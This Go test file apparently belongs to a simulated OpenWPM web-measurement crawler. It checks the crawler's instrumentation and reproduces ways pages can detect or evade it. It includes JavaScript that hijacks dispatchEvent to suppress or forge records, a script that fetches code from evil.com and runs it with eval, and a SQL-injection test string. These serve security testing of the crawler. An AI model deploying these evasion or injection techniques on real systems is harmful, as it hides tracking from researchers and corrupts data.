package openwpm

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

// web is a canned transport for tests.
type web struct {
	pages map[string]*httpsim.Response
	fail  map[string]int // URL → remaining failures
	log   httpsim.Log
}

func (w *web) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	if w.fail[req.URL] > 0 {
		w.fail[req.URL]--
		return nil, errors.New("connection reset")
	}
	resp, ok := w.pages[req.URL]
	w.log.Add(req, resp)
	if !ok {
		return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
	}
	return resp, nil
}

func htmlPage(body string, headers map[string]string) *httpsim.Response {
	h := map[string]string{"Content-Type": "text/html"}
	for k, v := range headers {
		h[k] = v
	}
	return &httpsim.Response{Status: 200, Headers: h, Body: body}
}

func tmFor(w *web) *TaskManager {
	return NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular,
		Transport:    w,
		DwellSeconds: 1,
		JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
	})
}

func TestJSInstrumentRecordsCalls(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<script src="https://a.com/probe.js"></script>`, nil),
		"https://a.com/probe.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: `var ua = navigator.userAgent; var w = screen.width;
			var c = document.createElement("canvas"); c.getContext("2d");`},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.userAgent"] == 0 {
		t.Errorf("Navigator.userAgent get not recorded; have %v", keys(calls))
	}
	if calls["Screen.width"] == 0 {
		t.Error("Screen.width get not recorded")
	}
	if calls["HTMLCanvasElement.getContext"] == 0 {
		t.Error("getContext call not recorded")
	}
	// script attribution
	var found bool
	for _, c := range tm.Storage.JSCalls {
		if c.Symbol == "Navigator.userAgent" && strings.Contains(c.ScriptURL, "probe.js") {
			found = true
		}
	}
	if !found {
		t.Error("originating script URL not attributed to probe.js")
	}
	// TopURL is set host-side
	for _, c := range tm.Storage.JSCalls {
		if c.TopURL != "https://a.com/" {
			t.Fatalf("TopURL = %q", c.TopURL)
		}
	}
}

func keys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// visitAndEval runs a page and returns a JS expression evaluated in the top
// realm afterwards.
func visitAndEval(t *testing.T, tm *TaskManager, url, expr string) string {
	t.Helper()
	bm := &BrowserManager{tm: tm}
	if _, err := bm.Visit(url); err != nil {
		t.Fatal(err)
	}
	v, err := bm.Browser().Top.It.RunScript(expr, "check.js")
	if err != nil {
		t.Fatalf("eval %q: %v", expr, err)
	}
	return v.ToString()
}

func TestListing1ToStringDetectability(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	got := visitAndEval(t, tm, "https://a.com/",
		`document.createElement("canvas").getContext.toString()`)
	if !strings.Contains(got, "getOriginatingScriptContext") {
		t.Errorf("wrapper toString does not leak instrumentation:\n%s", got)
	}
	if strings.Contains(got, "[native code]") {
		t.Error("wrapper toString claims to be native")
	}
}

func TestIdentifyingWindowGlobals(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	if got := visitAndEval(t, tm, "https://a.com/", "typeof window.getInstrumentJS"); got != "function" {
		t.Errorf("getInstrumentJS = %s, want function", got)
	}
	// legacy globals for OpenWPM 0.10.0
	w2 := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm2 := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w2, DwellSeconds: 1,
		JSInstrument: true, LegacyInstrumentGlobals: true,
	})
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.jsInstruments"); got != "function" {
		t.Errorf("legacy jsInstruments = %s", got)
	}
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.instrumentFingerprintingApis"); got != "function" {
		t.Errorf("legacy instrumentFingerprintingApis = %s", got)
	}
	if got := visitAndEval(t, tm2, "https://a.com/", "typeof window.getInstrumentJS"); got != "undefined" {
		t.Errorf("legacy build must not define getInstrumentJS, got %s", got)
	}
}

func TestPrototypePollution(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	// Fig. 2: document's instrumented attributes get defined on the FIRST
	// prototype (HTMLDocument.prototype) rather than Document.prototype.
	got := visitAndEval(t, tm, "https://a.com/",
		`Object.getPrototypeOf(document).hasOwnProperty("cookie") + "," + HTMLDocument.prototype.hasOwnProperty("cookie")`)
	if got != "true,true" {
		t.Errorf("pollution marker = %s, want true,true", got)
	}
	// clean browser: cookie lives on Document.prototype only
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	got = visitAndEval(t, cleanTM, "https://a.com/",
		`Object.getPrototypeOf(document).hasOwnProperty("cookie")`)
	if got != "false" {
		t.Errorf("clean browser pollution marker = %s, want false", got)
	}
}

func TestStackTraceLeaksInstrumentation(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	// Provoke an error in an overwritten function and read the stack trace
	// (Sec. 3.1.4): the wrapper frame betrays the instrumentation.
	probe := `
		var leak = "";
		try { new AudioContext().decodeAudioData(); } catch (e) { leak = e.stack }
		leak`
	got := visitAndEval(t, tm, "https://a.com/", probe)
	if !strings.Contains(got, InstrumentScriptName) {
		t.Errorf("stack trace does not leak instrumentation:\n%s", got)
	}
	// clean browser: same error, no instrumentation frames
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	got = visitAndEval(t, cleanTM, "https://a.com/", probe)
	if got == "" {
		t.Fatal("clean browser did not throw")
	}
	if strings.Contains(got, InstrumentScriptName) {
		t.Errorf("clean browser stack mentions instrumentation:\n%s", got)
	}
}

func TestGetterNoLongerThrowsOnPrototype(t *testing.T) {
	// Clean browser: invoking the userAgent getter with a foreign receiver
	// throws. Vanilla instrumentation swallows that error (Sec. 6.1.1).
	cleanW := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	cleanTM := NewTaskManager(CrawlConfig{OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: cleanW, DwellSeconds: 1})
	probe := `
		var r = "no-throw";
		try {
			Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent").get.call({});
		} catch (e) { r = "throw" }
		r`
	if got := visitAndEval(t, cleanTM, "https://a.com/", probe); got != "throw" {
		t.Errorf("clean browser getter: %s, want throw", got)
	}
	w := &web{pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)}}
	tm := tmFor(w)
	if got := visitAndEval(t, tm, "https://a.com/", probe); got != "no-throw" {
		t.Errorf("instrumented getter: %s, want no-throw", got)
	}
}

func TestCSPBlocksVanillaInstrumentation(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://csp.com/": htmlPage(
			`<script src="/probe.js"></script>`,
			map[string]string{"Content-Security-Policy": "script-src 'self'; report-uri /csp"}),
		"https://csp.com/probe.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: "var x = navigator.userAgent;"},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://csp.com/"); err != nil {
		t.Fatal(err)
	}
	// page ran, but the instrument never installed: no JS calls recorded
	if n := len(tm.Storage.JSCalls); n != 0 {
		t.Errorf("recorded %d JS calls despite CSP", n)
	}
	if len(tm.Storage.Visits) == 0 || tm.Storage.Visits[0].InstrumentInstalled {
		t.Error("visit record claims instrumentation installed")
	}
	// a csp_report request was emitted
	if w.log.CountByType()[httpsim.TypeCSPReport] == 0 {
		t.Error("no csp_report request")
	}
}

func TestDispatcherInterceptionBlocksRecording(t *testing.T) {
	// Listing 2: the page grabs the random event id, then swallows matching
	// events — recording stops, while normal APIs keep working.
	attack := `
		var dispatch_fn = document.dispatchEvent.bind(document);
		var grabbedID = "";
		document.dispatchEvent = function (event) {
			if (grabbedID === "") { grabbedID = event.type; return true; }
			if (event.type !== grabbedID) { return dispatch_fn(event); }
			return true; // swallowed
		};
		navigator.userAgent;          // sacrificial call to learn the id
		var secret1 = navigator.oscpu;      // unobserved
		var secret2 = screen.availTop;      // unobserved
	`
	w := &web{pages: map[string]*httpsim.Response{
		"https://evil.com/": htmlPage("<script>"+attack+"</script>", nil),
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://evil.com/"); err != nil {
		t.Fatal(err)
	}
	calls := tm.Storage.JSCallsBySymbol()
	if calls["Navigator.oscpu"] != 0 || calls["Screen.availTop"] != 0 {
		t.Errorf("post-attack calls still recorded: %v", calls)
	}
}

func TestFakeDataInjection(t *testing.T) {
	// Sec. 5.2: after learning the id, the page forges records — but cannot
	// spoof the top-level URL, which is set host-side.
	attack := `
		var dispatch_fn = document.dispatchEvent.bind(document);
		var grabbedID = "";
		document.dispatchEvent = function (event) {
			if (grabbedID === "") { grabbedID = event.type; }
			return dispatch_fn(event);
		};
		navigator.userAgent; // learn the id
		dispatch_fn(new CustomEvent(grabbedID, { detail: {
			symbol: "Navigator.FAKE", operation: "call",
			args: "forged", scriptUrl: "https://innocent.example/clean.js"
		}}));
	`
	w := &web{pages: map[string]*httpsim.Response{
		"https://evil.com/": htmlPage("<script>"+attack+"</script>", nil),
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://evil.com/"); err != nil {
		t.Fatal(err)
	}
	var fake *JSCall
	for i := range tm.Storage.JSCalls {
		if tm.Storage.JSCalls[i].Symbol == "Navigator.FAKE" {
			fake = &tm.Storage.JSCalls[i]
		}
	}
	if fake == nil {
		t.Fatal("forged record not injected (attack should succeed)")
	}
	if fake.ScriptURL != "https://innocent.example/clean.js" {
		t.Errorf("forged scriptUrl = %q", fake.ScriptURL)
	}
	if fake.TopURL != "https://evil.com/" {
		t.Errorf("TopURL was spoofed: %q", fake.TopURL)
	}
}

func TestIframeImmediateAccessUnobserved(t *testing.T) {
	// Listing 3: immediate execution at creation time escapes recording;
	// the same access a tick later is recorded.
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<div id="unobserved"></div><script>
			setTimeout(function () {
				var element = document.querySelector("#unobserved");
				var iframe = document.createElement("iframe");
				iframe.src = "https://a.com/frame";
				element.appendChild(iframe);
				iframe.contentWindow.navigator.userAgent; // immediate: unobserved
				setTimeout(function () {
					iframe.contentWindow.navigator.oscpu; // delayed: observed
				}, 600);
			}, 500);
		</script>`, nil),
		"https://a.com/frame": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	tm.Cfg.DwellSeconds = 5
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var sawUA, sawOscpu bool
	for _, c := range tm.Storage.JSCalls {
		if c.FrameURL == "https://a.com/frame" {
			if c.Symbol == "Navigator.userAgent" {
				sawUA = true
			}
			if c.Symbol == "Navigator.oscpu" {
				sawOscpu = true
			}
		}
	}
	if sawUA {
		t.Error("immediate iframe access was recorded; the Sec. 5.4.1 bypass should work")
	}
	if !sawOscpu {
		t.Error("delayed iframe access was not recorded")
	}
}

func TestIframeTouchedBeforeInstallRunsScript(t *testing.T) {
	// The parent takes a new frame's window before the instrument's install
	// tick and swaps the frame's Object.defineProperty for a stub. The
	// install must then run its script in that realm and go through the
	// stub, hooking nothing; a sibling frame never handed to script is still
	// instrumented and records its own delayed navigator.userAgent read.
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<div id="host"></div><script>
			setTimeout(function () {
				var host = document.querySelector("#host");
				var touched = document.createElement("iframe");
				touched.src = "https://a.com/touched";
				host.appendChild(touched);
				var frame = touched.contentWindow;
				var stubbed = 0;
				frame.Object.defineProperty = function (o, k, d) { stubbed++; return o; };
				var quiet = document.createElement("iframe");
				quiet.src = "https://a.com/quiet";
				host.appendChild(quiet);
				setTimeout(function () {
					frame.navigator.userAgent;
					fetch("https://a.com/stubbed?n=" + stubbed);
				}, 600);
			}, 500);
		</script>`, nil),
		"https://a.com/touched": htmlPage("<html></html>", nil),
		"https://a.com/quiet": htmlPage(`<script>
			setTimeout(function () { navigator.userAgent; }, 300);
		</script>`, nil),
	}}
	tm := tmFor(w)
	tm.Cfg.DwellSeconds = 5
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	uaReads := map[string]int{}
	for _, c := range tm.Storage.JSCalls {
		if c.Symbol == "Navigator.userAgent" {
			uaReads[c.FrameURL]++
		}
	}
	if n := uaReads["https://a.com/touched"]; n != 0 {
		t.Errorf("touched frame recorded %d userAgent reads; the stubbed defineProperty should have hooked nothing", n)
	}
	if uaReads["https://a.com/quiet"] == 0 {
		t.Error("untouched sibling frame did not record its delayed userAgent read")
	}
	// the script install calls defineProperty once per hooked API and once
	// per marker global
	apis := len(testRealm(jsdom.StandardConfig(jsdom.Ubuntu, jsdom.Regular, 90, 0), "").InstrumentableAPIs())
	want := fmt.Sprintf("https://a.com/stubbed?n=%d", apis+3)
	var urls []string
	for _, u := range w.log.URLs() {
		if strings.Contains(u, "stubbed") {
			urls = append(urls, u)
		}
	}
	if len(urls) != 1 || urls[0] != want {
		t.Errorf("stub report requests = %v, want [%s]: the install did not go through the page's defineProperty", urls, want)
	}
}

func TestHTTPFilterJSOnlyMissesSilentDelivery(t *testing.T) {
	// Listing 4: code delivered as text/plain without .js extension and
	// executed via eval escapes JS-only response storage.
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": htmlPage(`<script src="/app.js"></script>`, nil),
		"https://a.com/app.js": {Status: 200, Headers: map[string]string{"Content-Type": "text/javascript"},
			Body: `fetch("https://evil.com/cheat").then(function(r){ return r.text() }).then(function(code){ eval(code) });`},
		"https://evil.com/cheat": {Status: 200, Headers: map[string]string{"Content-Type": "text/plain"},
			Body: `var stealthRan = navigator.userAgent;`},
	}}
	tm := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w, DwellSeconds: 2,
		JSInstrument: true, HTTPInstrument: true, HTTPFilterJSOnly: true,
	})
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	for _, f := range tm.Storage.ScriptFiles {
		if strings.Contains(f.Content, "stealthRan") {
			t.Error("silently delivered payload was stored despite JS-only filter")
		}
	}
	var appStored bool
	for _, f := range tm.Storage.ScriptFiles {
		if f.URL == "https://a.com/app.js" {
			appStored = true
		}
	}
	if !appStored {
		t.Error("regular JS file not stored")
	}
	// the payload DID run (the JS instrument caught the call it makes)
	if tm.Storage.JSCallsBySymbol()["Navigator.userAgent"] == 0 {
		t.Error("eval'd payload did not execute")
	}
	// full-coverage mode stores the payload
	w2 := &web{pages: w.pages}
	tm2 := NewTaskManager(CrawlConfig{
		OS: jsdom.Ubuntu, Mode: jsdom.Regular, Transport: w2, DwellSeconds: 2,
		JSInstrument: true, HTTPInstrument: true, HTTPFilterJSOnly: false,
	})
	if _, err := tm2.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	var stored bool
	for _, f := range tm2.Storage.ScriptFiles {
		if strings.Contains(f.Content, "stealthRan") {
			stored = true
		}
	}
	if !stored {
		t.Error("full-coverage mode must store all bodies")
	}
}

func TestCookieInstrument(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/": {
			Status: 200, Headers: map[string]string{"Content-Type": "text/html"},
			Body:       `<script>document.cookie = "jsid=9; Max-Age=7776000";</script>`,
			SetCookies: []httpsim.Cookie{{Name: "httpid", Value: "1", Expires: 7776000}},
		},
	}}
	tm := tmFor(w)
	if _, err := tm.VisitSite("https://a.com/"); err != nil {
		t.Fatal(err)
	}
	if len(tm.Storage.Cookies) != 2 {
		t.Fatalf("cookies recorded = %d, want 2", len(tm.Storage.Cookies))
	}
	var js, http bool
	for _, c := range tm.Storage.Cookies {
		if c.Name == "jsid" && c.ViaJS {
			js = true
		}
		if c.Name == "httpid" && !c.ViaJS {
			http = true
		}
	}
	if !js || !http {
		t.Errorf("cookie records wrong: %+v", tm.Storage.Cookies)
	}
}

func TestSanitizationBlocksSQLishInjection(t *testing.T) {
	in := "'; DROP TABLE javascript; --"
	out := Sanitize(in)
	// every quote must be doubled so the payload can never terminate a
	// quoted string in the storage layer
	if want := strings.ReplaceAll(in, "'", "''"); out != want {
		t.Errorf("Sanitize(%q) = %q, want %q", in, out, want)
	}
	if strings.Count(out, "'")%2 != 0 {
		t.Errorf("odd number of quotes after sanitisation: %q", out)
	}
}

func TestBrowserManagerRestartsOnCrash(t *testing.T) {
	w := &web{
		pages: map[string]*httpsim.Response{"https://a.com/": htmlPage("<html></html>", nil)},
		fail:  map[string]int{"https://a.com/": 1},
	}
	tm := tmFor(w)
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatalf("visit failed despite retry: %v", err)
	}
	if sv.Restarts != 1 {
		t.Errorf("restarts = %d, want 1", sv.Restarts)
	}
}

func TestSubpageSelection(t *testing.T) {
	links := []string{
		"https://a.com/p1", "https://cdn.other.com/x", "https://a.com/p1",
		"https://sub.a.com/p2", "https://a.com/p3", "https://a.com/p4",
	}
	subs := SelectSubpages("https://a.com/", links, 3)
	if len(subs) != 3 {
		t.Fatalf("subs = %v", subs)
	}
	if subs[0] != "https://a.com/p1" || subs[1] != "https://sub.a.com/p2" || subs[2] != "https://a.com/p3" {
		t.Errorf("subs = %v", subs)
	}
}

func TestSubpagesVisited(t *testing.T) {
	w := &web{pages: map[string]*httpsim.Response{
		"https://a.com/":   htmlPage(`<a href="/s1">1</a><a href="/s2">2</a>`, nil),
		"https://a.com/s1": htmlPage("<html></html>", nil),
		"https://a.com/s2": htmlPage("<html></html>", nil),
	}}
	tm := tmFor(w)
	tm.Cfg.MaxSubpages = 3
	sv, err := tm.VisitSite("https://a.com/")
	if err != nil {
		t.Fatal(err)
	}
	if len(sv.Subpages) != 2 {
		t.Errorf("subpages visited = %d, want 2", len(sv.Subpages))
	}
	var subRecords int
	for _, v := range tm.Storage.Visits {
		if v.Subpage && v.OK {
			subRecords++
		}
	}
	if subRecords != 2 {
		t.Errorf("subpage visit records = %d", subRecords)
	}
}
